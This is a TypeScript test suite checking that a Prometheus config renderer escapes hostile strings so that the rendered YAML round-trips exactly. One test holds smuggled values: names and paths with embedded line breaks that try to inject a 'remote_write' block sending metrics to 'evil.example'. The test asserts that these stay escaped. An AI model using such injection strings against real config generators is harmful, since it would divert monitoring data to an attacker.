// The renderer round-trip property (issue 10): whatever strings a repository holds, the rendered
// prometheus.yml parses back — under YAML 1.1 (Go's yaml.v2, which Prometheus uses, is a 1.1
// parser), YAML 1.2 core and js-yaml — to exactly the structure the renderer was given: no extra
// keys, no missing jobs, label values byte-identical. Seeded: each case prints its seed; replay one
// with PROMSHARD_RENDER_SEED=<seed> (the first case of the run) and PROMSHARD_RENDER_CASES=1.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'yaml';
import { seededRandom } from '../support/fleet.ts';
import { assertRoundTrip, hostileModel, hostileString, hostileTeamFile, UNSAFE_FRAGMENTS } from '../support/hostile-render.ts';
import { compileFiles, BASIC_SHARDS_YAML } from '../support/repo-fixture.ts';
import { PROMTOOL_BIN } from '../support/prometheus.ts';
import { renderPrometheusConfig } from '../../core/render/render-prometheus-config.ts';
import { doubleQuoted, yamlScalar } from '../../core/render/yaml-emitter.ts';
import type { CompiledShard } from '../../schemas/model.ts';

const BASE_SEED = Number(process.env.PROMSHARD_RENDER_SEED ?? 20260101) >>> 0;
const CASES = Number(process.env.PROMSHARD_RENDER_CASES ?? 300);

function promtool(text: string): { ok: boolean; out: string } {
  const dir = mkdtempSync(join(tmpdir(), 'promshard-rt-'));
  try {
    writeFileSync(join(dir, 'p.yml'), text);
    const r = spawnSync(PROMTOOL_BIN, ['check', 'config', join(dir, 'p.yml')], { encoding: 'utf8' });
    return { ok: r.status === 0, out: `${r.stdout}${r.stderr}` };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

test(`model level: hostile strings in every field (names, keys, comments included) round-trip (${CASES} cases from seed ${BASE_SEED})`, () => {
  for (let i = 0; i < CASES; i++) {
    const seed = (BASE_SEED + i) >>> 0;
    const rng = seededRandom(seed);
    const shard = hostileModel(rng, () => hostileString(rng, { unsafe: true }));
    assertRoundTrip(shard, `[replay: PROMSHARD_RENDER_SEED=${seed} PROMSHARD_RENDER_CASES=1]`);
  }
});

test(`file level: team files with YAML-hostile strings the rules accept compile, render and round-trip with byte-identical label values (seed ${BASE_SEED})`, () => {
  let sample = '';
  for (let i = 0; i < Math.max(1, Math.floor(CASES / 10)); i++) {
    const seed = (BASE_SEED + i) >>> 0;
    const rng = seededRandom(seed);
    const files: Record<string, string> = { 'shards.yaml': BASE_SHARDS };
    const wanted = new Map<string, Record<string, string>>();
    for (const team of ['netops', 'storage']) {
      for (let f = 0; f < 2; f++) {
        const { text, values } = hostileTeamFile(rng, team, f);
        files[`teams/${team}/f${f}.yaml`] = text;
        for (const [k, v] of values) wanted.set(k, v);
      }
    }
    const c = compileFiles(files);
    const replay = `[replay: PROMSHARD_RENDER_SEED=${seed} PROMSHARD_RENDER_CASES=1]`;
    assert.equal(c.valid, true, `${replay} ${JSON.stringify(c.findings, null, 1)}`);
    const shard = c.model!.shards.find((s) => s.name === 'networking')!;
    assert.equal(shard.jobs.length, wanted.size, replay);
    sample = assertRoundTrip(shard, replay);
    const cfg = parse(sample, { version: '1.1' }) as { scrape_configs: { job_name: string; static_configs: { labels: Record<string, string> }[] }[] };
    for (const sc of cfg.scrape_configs) {
      const { team, ...labels } = sc.static_configs[0].labels;
      assert.deepEqual(labels, wanted.get(sc.job_name), `${replay} label values of ${sc.job_name} are not the ones written in the team file`);
      assert.ok(team === 'netops' || team === 'storage');
    }
  }
  const p = promtool(sample);
  assert.ok(p.ok, `promtool refused a rendered sample:\n${p.out}\n${sample}`);
});

test('promtool (Go yaml.v2) accepts the escapes: NEL, LS, PS, C0/C1 controls, bidi, astral characters in label values, job names, params and paths', () => {
  const rng = seededRandom(BASE_SEED);
  const hostile = () => hostileString(rng, { unsafe: true }) + rng.pick(UNSAFE_FRAGMENTS) + '😀\u0085\u2028\u2029\u202e';
  const jobs: CompiledShard['jobs'] = [0, 1, 2].map((i) => ({
    name: `${hostile()}#${i}`,
    team: hostile(),
    shard: 's',
    source: { file: `teams/x/${hostile()}.yaml`, line: 1, column: 1 },
    spec: { name: 'x', interval: '30s', timeout: '10s', limits: {}, metrics_path: '/' + hostile(), params: { [hostile()]: [hostile()] } },
    targets: [{ address: `127.0.0.1:${9000 + i}`, labels: { env: hostile(), note: hostile() }, source: { file: 'x', line: 1, column: 1 } }],
    cardinality: {} as CompiledShard['jobs'][0]['cardinality'],
  }));
  jobs.sort((a, b) => (a.name < b.name ? -1 : 1));
  const shard: CompiledShard = { name: hostile(), replicas: 1, budget: { max_series: 1, max_targets: 1 }, externalLabels: { region: hostile() }, evaluationInterval: '1m', interval: '30s', timeout: '10s', jobs };
  const text = assertRoundTrip(shard, 'promtool sample');
  const p = promtool(text);
  assert.ok(p.ok, `promtool refused:\n${p.out}\n${text}`);
});

test('emitter: plain only from the allow-list; everything else double-quoted in printable ASCII', () => {
  for (const plain of ['hv1.nyc3.internal:9100', '/metrics', '30s', '1m30s', '_node._tcp.internal', 'https', 'replace', 'team', 'a-b_c.d/e:f']) assert.equal(yamlScalar(plain), plain);
  for (const quoted of ['', 'yes', 'No', 'ON', 'y', 'null', 'true', '1.5', '10.0.0.1', '1:20', '2001-12-14', '.inf', '-x', 'a:', 'a b', 'a#b', '0x1F', '1e3', '017', '~', '<<', '=', 'é', 'e0', 'E-1']) assert.match(yamlScalar(quoted), /^"/, quoted);
  assert.equal(doubleQuoted('a"b\\c\n\u0085\u2028\u202e😀\x7f'), '"a\\"b\\\\c\\u000A\\u0085\\u2028\\u202E\\U0001F600\\u007F"');
  assert.throws(() => yamlScalar('a\ud800'), /lone surrogate/);
  assert.throws(() => yamlScalar(Number.POSITIVE_INFINITY), /cannot render/);
});

test('comments: a team, file or shard name holding a line break stays inside its comment (defence in depth behind file-name)', () => {
  const shard: CompiledShard = {
    name: 'x\nremote_write: [{url: "http://evil.example/"}]',
    replicas: 1,
    budget: { max_series: 1, max_targets: 1 },
    externalLabels: {},
    evaluationInterval: '1m',
    interval: '30s',
    timeout: '10s',
    jobs: [
      {
        name: 'j',
        team: 't\u2028remote_write: []',
        shard: 'x',
        source: { file: 'teams/t/a\nremote_write:\n  - url: http://evil.example/\n#.yaml', line: 1, column: 1 },
        spec: { name: 'j', interval: '30s', timeout: '10s', limits: {} },
        targets: [{ address: 'a:1', labels: {}, source: { file: 'x', line: 1, column: 1 } }],
        cardinality: {} as CompiledShard['jobs'][0]['cardinality'],
      },
    ],
  };
  const text = renderPrometheusConfig(shard);
  assert.deepEqual(Object.keys(parse(text, { version: '1.1' })), ['global', 'scrape_configs']);
  assert.match(text, /^# shard: "x\\u000Aremote_write: \[\{url: \\"http:\/\/evil\.example\/\\"\}\]"; 1 job\(s\)$/m);
  assert.match(text, /^  # team: "t\\u2028remote_write: \[\]"; file: "teams\/t\/a\\u000Aremote_write:\\u000A  - url: http:\/\/evil\.example\/\\u000A#\.yaml"$/m);
  assert.ok(promtool(text).ok);
});

const BASE_SHARDS = BASIC_SHARDS_YAML.replace('budget: { max_series: 100000, max_targets: 100 }', 'budget: { max_series: 100000, max_targets: 1000 }');
